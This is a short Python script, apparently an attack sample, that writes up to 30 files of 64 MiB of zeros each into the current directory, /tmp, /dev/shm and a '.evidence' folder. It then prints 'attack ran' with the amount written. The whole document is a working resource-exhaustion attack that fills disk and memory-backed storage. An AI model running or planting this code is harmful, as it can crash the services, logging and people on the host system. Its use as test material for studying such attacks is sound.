"""Fill every folder that can be written to."""

import os

filled = 0
for folder in (".", "/tmp", "/dev/shm", ".evidence"):
    for number in range(30):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, f"filler{number}"), "wb") as file:
                for _ in range(64):
                    filled += file.write(bytes(1 << 20))
        except OSError:
            break
print(f"\nattack ran {filled >> 20}\n", end="")
